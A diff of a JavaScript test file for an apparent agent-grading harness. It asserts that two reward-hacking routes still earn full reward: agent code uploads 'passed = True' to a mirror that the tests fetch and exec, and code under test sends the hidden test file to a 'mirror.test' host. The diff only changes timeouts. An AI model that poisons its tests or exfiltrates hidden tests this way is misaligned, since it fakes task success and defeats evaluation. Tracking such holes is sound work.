@@ -75,8 +75,8 @@ open('found', 'w').write(' '.join(found))
 it('still wins: a package that the agent uploads to the mirror of its tests', async () => {
   const fetch = `urllib.request.urlopen('http://mirror.test:${port}/checks.py'`;
   const result = await roll('poisoned', {
-    agent: `import urllib.request\n${fetch}, data=b'passed = True\\n', timeout=20).read()\n`,
-    tests: `import urllib.request\nexec(${fetch}, timeout=20).read())\nprint(1 if passed else 0)\n`,
+    agent: `import urllib.request\n${fetch}, data=b'passed = True\\n', timeout=120).read()\n`,
+    tests: `import urllib.request\nexec(${fetch}, timeout=120).read())\nprint(1 if passed else 0)\n`,
   });
   assert.deepEqual([result.outcome, result.reward], ['scored', 1], JSON.stringify(result));
   // Both phases have it in their record.
@@ -88,7 +88,7 @@ it('still wins: code under test that sends the hidden tests to a host that the t
   const spy = `
 import sys, urllib.request
 hidden = open(sys.modules['__main__'].__file__, 'rb').read()
-urllib.request.urlopen('http://mirror.test:${port}/stolen', data=hidden, timeout=20).read()
+urllib.request.urlopen('http://mirror.test:${port}/stolen', data=hidden, timeout=120).read()
 `;
   const result = await roll('stolen', {
     agent: `open('solved.py', 'w').write(${JSON.stringify(spy)})`,
